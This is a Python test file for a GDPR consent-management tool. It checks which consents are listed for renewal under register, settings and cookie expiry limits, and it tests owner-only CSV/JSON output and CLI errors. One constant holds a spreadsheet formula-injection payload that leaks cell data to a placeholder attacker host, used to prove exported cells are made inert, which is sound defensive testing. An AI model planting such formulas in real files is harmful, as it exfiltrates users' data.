"""Consent renewal (issue 15, scheduled work): the consents that lapse soon, and those lapsed and not
renewed, listed to ask again; CSV owner-only with inert cells, or JSON.

A consent lapses at the first of its own expiry, its activity's ``consent.expiry`` (the register),
the ``consent_renewal_periods`` setting for its channel, and for cookies 13 months at most (CNIL
délibération 2020-092). On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from garde import audit, consent
from garde.cli import app
from garde.consent.renewal import Limits, renewals
from garde.consent.state import ConsentEvent, effective_expiry
from garde.decide.model import DecisionModel
from garde.periods import Period
from garde.problems import GardeError
from garde.register.loading import parse_register
from garde.settings import Settings, get_settings
from garde.subjects import ensure_subject
from tests.conftest import cli_store, mode

TODAY = date(2026, 1, 15)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'
REGISTER = """
language: en
controller: {name: Mini Shop SAS, country: FR}
activities:
  - id: newsletter
    name: {en: Newsletter}
    purposes: [{en: Send you our news}]
    data_subjects: [customer]
    data_categories: [contact.email]
    legal_bases: [consent]
    consent: {capture: [web_form]}
    retention: ["until consent_withdrawn"]
  - id: audience
    name: {en: Audience panel}
    purposes: [{en: Ask your opinion}]
    data_subjects: [customer]
    data_categories: [contact.email]
    legal_bases: [consent]
    consent: {capture: [web_form], expiry: 6 months}
    retention: ["until consent_withdrawn"]
  - id: analytics
    name: {en: Audience measurement}
    purposes: [{en: Measure the site's audience}]
    data_subjects: [visitor]
    data_categories: [online.cookie_id]
    legal_bases: [consent]
    consent: {capture: [cookie_banner]}
    retention: ["until consent_withdrawn"]
"""


def model() -> DecisionModel:
    return DecisionModel(parse_register(REGISTER).register)


def settings(tmp_path: Path) -> Settings:
    return Settings(registers=tmp_path / "none.yaml", consent_renewal_periods={"email": "3 years"})


def at(day: str) -> datetime:
    return datetime.fromisoformat(day).replace(tzinfo=UTC)


def ledger(engine: sa.Engine) -> dict[str, str]:
    """Subjects whose consents lapse for each reason, and some whose do not."""
    people: dict[str, str] = {}
    with engine.begin() as conn:
        def subject(name: str, kind: str = "customer") -> str:
            people[name] = ensure_subject(conn, {"email": f"{name}@example.org"}, kind=kind)
            return people[name]

        # 3 years after 2023-02-01 by the setting's period for e-mail
        consent.give(conn, subject("ana"), "newsletter", channel="email", at=at("2023-02-01"))
        # 6 months after 2025-08-01 by the activity's consent.expiry
        consent.give(conn, subject("bob"), "audience", channel="email", at=at("2025-08-01"))
        # 13 months after 2025-01-01: a cookie consent recorded with no expiry of its own
        consent.give(conn, subject("cleo", "visitor"), "analytics", channel="cookie.analytics",
                     at=at("2025-01-01"))
        # lapsed on its own expiry, before today: listed as lapsed
        consent.give(conn, subject("dan"), "audience", channel="email", at=at("2025-08-01"),
                     expires_at=at("2026-01-01"))
        # lapsed longer ago than the window: no longer listed
        consent.give(conn, subject("ida"), "audience", channel="email", at=at("2025-05-01"),
                     expires_at=at("2025-11-01"))
        # withdrawn: nothing to renew
        consent.give(conn, subject("eve"), "newsletter", channel="email", at=at("2023-02-01"))
        consent.withdraw(conn, people["eve"], "newsletter", channel="email", at=at("2024-03-01"))
        # renewed since: lapses in 2028
        consent.give(conn, subject("fay"), "newsletter", channel="email", at=at("2023-02-01"))
        consent.give(conn, people["fay"], "newsletter", channel="email", at=at("2025-06-01"))
        # an activity no register declares, named like a spreadsheet formula (an import wrote it)
        consent.give(conn, subject("gus"), FORMULA, channel="email", at=at("2023-02-10"))
    return people


def test_the_list_names_each_consent_lapsing_or_lapsed_with_what_sets_it(engine: sa.Engine,
                                                                          tmp_path: Path) -> None:
    people = ledger(engine)
    listed = renewals(engine, settings(tmp_path), today=TODAY, within=30, model=model())
    found = {(r.subject_id, r.activity): r for r in listed.consents}
    assert set(found) == {(people["ana"], "newsletter"), (people["bob"], "audience"),
                          (people["cleo"], "analytics"), (people["dan"], "audience"),
                          (people["gus"], FORMULA)}
    ana, bob, cleo, dan = (found[people["ana"], "newsletter"], found[people["bob"], "audience"],
                           found[people["cleo"], "analytics"], found[people["dan"], "audience"])
    assert (ana.lapses_at.date(), ana.days_left, ana.status) == (date(2026, 2, 1), 17, "lapsing")
    assert ana.limit == "consent_renewal_periods[email] (3 years)"
    assert (bob.lapses_at.date(), bob.limit) == (date(2026, 2, 1), "activity consent.expiry (6 months)")
    assert (cleo.lapses_at.date(), cleo.limit) == (date(2026, 2, 1), "cookie_consent_months (13 months)")
    assert cleo.subject_kind == "visitor" and cleo.channel == "cookie.analytics"
    assert (dan.days_left, dan.status, dan.limit) == (-14, "lapsed", "its own expiry")
    assert people["ida"] not in {r.subject_id for r in listed.consents}  # lapsed 75 days ago
    assert [r.lapses_at for r in listed.consents] == sorted(r.lapses_at for r in listed.consents)

    shorter = renewals(engine, settings(tmp_path), today=TODAY, within=14, model=model())
    assert [(r.subject_id, r.status) for r in shorter.consents] == [(people["dan"], "lapsed")]
    assert renewals(engine, settings(tmp_path), today=TODAY, within=13, model=model()).consents == ()
    later = renewals(engine, settings(tmp_path), today=date(2026, 1, 31), within=1, model=model())
    assert {(r.subject_id, r.days_left) for r in later.consents} == {
        (people["ana"], 1), (people["bob"], 1), (people["cleo"], 1)}
    with engine.connect() as conn:
        listed_entries = [e["payload"] for e in audit.entries(conn, kind="consent.renewals_listed")]
    assert listed_entries[:2] == [{"day": "2026-01-15", "within_days": 30, "count": 5, "written": False},
                                  {"day": "2026-01-15", "within_days": 14, "count": 1, "written": False}]


def test_without_the_settings_period_an_email_consent_never_lapses(engine: sa.Engine, tmp_path: Path) -> None:
    people = ledger(engine)
    plain = Settings(registers=tmp_path / "none.yaml")
    listed = renewals(engine, plain, today=TODAY, within=30, model=model())
    assert people["ana"] not in {r.subject_id for r in listed.consents}
    assert people["cleo"] in {r.subject_id for r in listed.consents}  # cookies: 13 months whatever
    with pytest.raises(GardeError, match="expected 0 days or more"):
        renewals(engine, plain, today=TODAY, within=-1, model=model())


def test_the_list_replaces_the_configured_file_owner_only_and_an_unwritable_one_fails_clearly(
        engine: sa.Engine, tmp_path: Path, umask_022: None) -> None:
    people = ledger(engine)
    target = tmp_path / "renewals" / "latest.csv"
    config = Settings(registers=tmp_path / "none.yaml", consent_renewal_periods={"email": "3 years"},
                      consent_renewal_file=target)
    listed = renewals(engine, config, today=TODAY, within=30, model=model())
    assert listed.output == target and mode(target) == 0o600 and mode(target.parent) == 0o700
    with target.open(encoding="utf-8", newline="") as handle:
        assert len(list(csv.reader(handle))) == 1 + 5
    renewals(engine, config, today=TODAY, within=14, model=model())  # the next list replaces it
    with target.open(encoding="utf-8", newline="") as handle:
        assert [row[0] for row in csv.reader(handle)][1:] == [people["dan"]]
    assert sorted(p.name for p in target.parent.iterdir()) == ["latest.csv"]  # no partial file left

    as_json = renewals(engine, config, today=TODAY, within=14, model=model(), output=tmp_path / "l.json")
    assert json.loads((tmp_path / "l.json").read_text(encoding="utf-8"))["consents"][0]["subject_id"] \
        == people["dan"] and as_json.to_data()["output"] == str(tmp_path / "l.json")

    blocked = tmp_path / "a-file"
    blocked.write_text("not a folder", encoding="utf-8")
    with pytest.raises(GardeError, match=r"renewal list .*cannot be written"):
        renewals(engine, config, today=TODAY, within=30, model=model(), output=blocked / "list.csv")
    with engine.connect() as conn:
        written = [e["payload"]["written"] for e in audit.entries(conn, kind="consent.renewals_listed")]
    assert written == [True, True, True]  # the failed one left no entry


def test_a_consent_on_every_channel_is_listed_once(engine: sa.Engine, tmp_path: Path) -> None:
    with engine.begin() as conn:
        hana = ensure_subject(conn, {"email": "hana@example.org"}, kind="customer")
        consent.give(conn, hana, "audience", at=at("2025-07-20"))  # every channel
        consent.give(conn, hana, "audience", channel="email", at=at("2025-07-25"))
    listed = renewals(engine, settings(tmp_path), today=TODAY, within=30, model=model())
    assert sorted((r.channel or "", r.lapses_at.date().isoformat()) for r in listed.consents) == [
        ("", "2026-01-20"), ("email", "2026-01-25")]


def test_garde_consent_renewals_writes_an_owner_only_csv_with_inert_cells(
        cli_env: Path, monkeypatch: pytest.MonkeyPatch, umask_022: None) -> None:
    register = cli_env / "register.yaml"
    register.write_text(REGISTER, encoding="utf-8")
    monkeypatch.setenv("GARDE_REGISTERS", str(register))
    monkeypatch.setenv("GARDE_CONSENT_RENEWAL_PERIODS", '{"email": "3 years"}')
    with cli_store(cli_env) as engine:
        people = ledger(engine)
    runner = CliRunner()
    output = cli_env / "lists" / "renewals.csv"
    result = runner.invoke(app, ["consent", "renewals", "--within", "30", "--today", TODAY.isoformat(),
                                 "--output", str(output)])
    assert result.exit_code == 0, result.output
    said = "4 consents lapse within 30 days, 1 lapsed in the last 30 days and not renewed, written to"
    assert said in result.output
    assert mode(output) == 0o600
    with output.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["subject_id", "subject_kind", "activity", "channel", "given_at", "lapses_on",
                       "days_left", "status", "limit"]
    assert [row[2] for row in rows[1:] if row[0] == people["gus"]] == ["'" + FORMULA]
    assert all("@example.org" not in cell for row in rows for cell in row)  # ids, never identities

    as_json = cli_env / "renewals.json"
    shown = runner.invoke(app, ["consent", "renewals", "--today", TODAY.isoformat(), "--output", str(as_json),
                                "--format", "json"])
    assert shown.exit_code == 0, shown.output
    assert json.loads(shown.stdout)["output"] == str(as_json) and mode(as_json) == 0o600
    written = json.loads(as_json.read_text(encoding="utf-8"))
    assert written["within_days"] == 30 and len(written["consents"]) == 5  # consent_renewal_days: 30
    table = runner.invoke(app, ["consent", "renewals", "--within", "14", "--today", TODAY.isoformat()])
    assert people["dan"][:8] in table.output
    assert "0 consents lapse within 14 days, 1 lapsed in the last 14" in table.output


def test_a_renewal_period_setting_that_is_not_json_is_a_clear_error(
        cli_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GARDE_CONSENT_RENEWAL_PERIODS", "email=3 years")  # a map is JSON in the environment
    get_settings.cache_clear()
    result = CliRunner().invoke(app, ["consent", "renewals"])
    assert result.exit_code == 2, (result.exit_code, result.exception)
    assert "GARDE_CONSENT_RENEWAL_PERIODS" in result.output and "JSON" in result.output
    assert "Traceback" not in result.output
    monkeypatch.setenv("GARDE_CONSENT_RENEWAL_PERIODS", '{"email": "3 yrs"}')
    get_settings.cache_clear()
    refused = CliRunner().invoke(app, ["consent", "renewals"])
    assert refused.exit_code == 2 and "consent_renewal_periods['email']" in refused.output


moments = st.datetimes(min_value=datetime(2020, 1, 1), max_value=datetime(2030, 1, 1), timezones=st.just(UTC))
periods = st.builds(Period, st.integers(0, 40), st.sampled_from(["day", "week", "month", "year"]))


@given(given_at=moments, own=st.none() | moments, validity=st.none() | periods,
       channel=st.sampled_from([None, "email", "sms"]))
def test_without_settings_periods_a_consent_lapses_when_decide_calls_it_expired(
        given_at: datetime, own: datetime | None, validity: Period | None, channel: str | None) -> None:
    """The list and ``decide()`` agree on every consent the settings' periods do not touch."""
    event = ConsentEvent("newsletter", channel, "given", given_at, own)
    lapse = Limits({"newsletter": validity}, {}, Period(13, "month")).lapse(event)
    expiry = effective_expiry(event, validity)
    assert (lapse[0] if lapse else None) == expiry


@given(given_at=moments, own=st.none() | moments, months=st.integers(1, 13),
       setting=st.none() | periods)
def test_a_cookie_consent_never_outlasts_cookie_consent_months(
        given_at: datetime, own: datetime | None, months: int, setting: Period | None) -> None:
    event = ConsentEvent("analytics", "cookie.analytics", "given", given_at, own)
    channels = {"cookie": setting} if setting is not None else {}
    lapse = Limits({}, channels, Period(months, "month")).lapse(event)
    assert lapse is not None and lapse[0] <= Period(months, "month").after(given_at)
    assert own is None or lapse[0] <= own
